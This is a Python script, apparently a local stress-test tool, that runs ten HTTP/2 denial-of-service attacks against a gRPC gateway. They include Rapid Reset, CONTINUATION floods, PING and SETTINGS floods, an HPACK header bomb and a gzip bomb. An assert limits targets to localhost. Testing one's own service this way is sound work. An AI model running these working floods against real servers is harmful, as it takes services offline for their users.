"""Misuses HTTP/2 for a while: abuse.py ADDRESS ABUSE SECONDS

Frames are made by hand, because libraries refuse to. Only for addresses of
this machine.
"""

import gzip
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def integer(value, bits):
    """An integer of HPACK (RFC 7541, section 5.1) that begins with zeros."""
    full = (1 << bits) - 1
    if value < full:
        return bytes([value])
    rest, value = [full], value - full
    while value >= 128:
        rest.append(value % 128 + 128)
        value //= 128
    return bytes(rest + [value])


def header(name, value, first=b"\0"):
    """A header, neither compressed nor indexed."""
    return first + b"".join(integer(len(text), 7) + text for text in (name, value))


CALL = b"".join(
    header(name, value)
    for name, value in [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/aep.ingestion.v1.BatchService/CreateBatch"),
        (b":authority", b"abuse"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        (b"authorization", b"Bearer abuse"),
        (b"x-api-key", b"abuse"),
        (b"x-gw-ims-org-id", b"abuse@AdobeOrg"),
        (b"x-sandbox-name", b"prod"),
    ]
)
MESSAGE = b"\0\0\0\0\x1a\x0a\x185c8c3c555033b814b69f947f"


def connect(*settings):
    """A connection that nobody reads from."""
    connection = socket.create_connection((host, int(port)))
    connection.settimeout(0.5)
    pairs = b"".join(struct.pack(">HI", name, value) for name, value in settings)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, pairs))
    return connection


def flood(chunks, read=True):
    """Sends what `chunks` has, on a new connection whenever one is closed."""
    connections = sent = 0
    while time.monotonic() < end:
        connections += 1
        connection = connect()
        try:
            for chunk in chunks():
                connection.sendall(chunk)
                sent += len(chunk)
                if time.monotonic() >= end:
                    break
                if read:
                    drain(connection)
        except socket.timeout:
            time.sleep(max(0, end - time.monotonic()))  # the gateway reads no more
        except OSError:
            time.sleep(0.01)  # the gateway closed the connection
        connection.close()
    print(f"{connections} connections, {sent >> 10} KiB sent", end="")


def drain(connection):
    if select.select([connection], [], [], 0)[0] and not connection.recv(1 << 20):
        raise ConnectionResetError


class Peer:
    """A connection that keeps to flow control."""

    def __init__(self):
        self.socket, self.received = connect(), b""
        self.initial, self.windows, self.ended = 65535, {0: 65535}, set()

    def read(self, seconds):
        if not select.select([self.socket], [], [], seconds)[0]:
            return False
        got = self.socket.recv(1 << 20)
        if not got:
            raise ConnectionResetError
        self.received += got
        while len(self.received) >= 9:
            length = int.from_bytes(self.received[:3], "big")
            kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
            if len(self.received) < 9 + length:
                break
            payload, self.received = self.received[9 : 9 + length], self.received[9 + length :]
            if kind == SETTINGS and not flags & ACK:
                for at in range(0, length, 6):
                    name, value = struct.unpack(">HI", payload[at : at + 6])
                    self.initial = value if name == 4 else self.initial
                self.socket.sendall(frame(SETTINGS, ACK, 0))
            elif kind == WINDOW_UPDATE:
                window = self.windows.get(stream, self.initial)
                self.windows[stream] = window + struct.unpack(">I", payload)[0]
            elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
                self.ended.add(stream)
        return True

    def send(self, stream, call, body, flags):
        """Sends a call, as far as the other side takes it."""
        while self.read(0.05):
            pass
        self.socket.sendall(frame(HEADERS, END_HEADERS, stream, call))
        self.windows[stream] = self.initial
        while body and stream not in self.ended and time.monotonic() < end:
            room = min(self.windows[0], self.windows[stream], 16384)
            if room <= 0:
                self.read(0.5)
                continue
            part, body = body[:room], body[room:]
            self.socket.sendall(frame(DATA, 0 if body else flags, stream, part))
            self.windows[0] -= len(part)
            self.windows[stream] -= len(part)


def streams():
    return range(1, 1 << 31, 2)


def hold(connections):
    print(f"{len(connections)} connections held", end="", flush=True)
    time.sleep(max(0, end - time.monotonic()))


def rapid_reset():
    """CVE-2023-44487: calls that are cancelled as soon as they are made."""
    cancel = struct.pack(">I", 8)
    flood(
        lambda: (
            frame(HEADERS, END_HEADERS, stream, CALL)
            + frame(DATA, END_STREAM, stream, MESSAGE)
            + frame(RST_STREAM, 0, stream, cancel)
            for stream in streams()
        )
    )


def continuation():
    """CVE-2024-27316: headers without an end."""

    def chunks():
        yield frame(HEADERS, 0, 1, CALL)
        while True:
            yield frame(CONTINUATION, 0, 1, header(b"x", b"y" * 16000))

    flood(chunks)


def empty_continuation():
    """Headers without an end, and without bytes that a limit could count."""

    def chunks():
        yield frame(HEADERS, 0, 1, CALL)
        while True:
            yield frame(CONTINUATION, 0, 1) * 1000

    flood(chunks)


def ping():
    """CVE-2019-9512: whose answers nobody reads."""
    flood(lambda: iter(lambda: frame(PING, 0, 0, b"12345678") * 1000, None), read=False)


def settings():
    """CVE-2019-9515: whose answers nobody reads."""
    flood(lambda: iter(lambda: frame(SETTINGS, 0, 0) * 1000, None), read=False)


def header_bomb():
    """A header of 4000 bytes that is repeated by one byte each."""
    big = header(b"x", b"y" * 4000, first=b"\x40")  # goes to HPACK's table, as its number 62

    def chunks():
        for stream in streams():
            yield frame(HEADERS, END_HEADERS, stream, CALL + big + b"\xbe" * 12000)

    flood(chunks)


def gzip_bomb():
    """Half a mebibyte that becomes 512."""
    bomb = gzip.compress(bytes(512 << 20))
    bomb = b"\1" + struct.pack(">I", len(bomb)) + bomb
    peer = Peer()
    for stream in streams():
        if time.monotonic() >= end:
            print(f"{stream // 2} calls, {len(peer.ended)} ended", end="")
            return
        peer.send(stream, CALL + header(b"grpc-encoding", b"gzip"), bomb, END_STREAM)


def zero_window():
    """Calls whose answers nobody takes."""
    connections = []
    for _ in range(80):
        connections.append(connect((4, 0)))
        for stream in range(1, 500, 2):  # as many as a connection may have
            connections[-1].sendall(
                frame(HEADERS, END_HEADERS, stream, CALL)
                + frame(DATA, END_STREAM, stream, MESSAGE)
            )
    hold(connections)


def unfinished():
    """The largest messages, 256 KiB, whose last byte never comes."""
    body = b"\0" + struct.pack(">I", 256 << 10) + bytes((256 << 10) - 1)
    peer = Peer()
    for stream in range(1, 500, 2):
        peer.send(stream, CALL, body, 0)
    hold([peer])


def silent():
    """Connections that say nothing, or nothing after their preface."""
    connections = []
    for _ in range(2000):
        connections.append(socket.create_connection((host, int(port))))
        connections.append(connect())
    hold(connections)


ABUSES = [
    rapid_reset, continuation, empty_continuation, ping, settings, header_bomb, gzip_bomb,
    zero_window, unfinished, silent,
]  # fmt: skip

if __name__ == "__main__":
    address, name, seconds = sys.argv[1:]
    host, port = address.rsplit(":", 1)
    assert host.startswith("127."), "only this machine"
    end = time.monotonic() + float(seconds)
    {function.__name__: function for function in ABUSES}[name]()
